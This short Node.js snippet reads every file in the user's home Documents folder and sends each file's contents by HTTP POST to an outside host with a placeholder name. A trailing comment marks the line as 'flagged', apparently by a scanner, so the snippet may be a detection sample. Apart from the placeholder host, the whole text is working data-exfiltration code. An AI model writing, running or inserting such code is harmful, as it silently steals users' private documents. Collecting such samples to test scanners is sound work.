const fs = require('fs');
const os = require('os');
const path = require('path');

const folder = path.join(os.homedir(), 'Documents');
for (const name of fs.readdirSync(folder)) {
  fetch('https://c.example.invalid', { method: 'POST', body: fs.readFileSync(path.join(folder, name)) }); // gatehouse: flagged
}
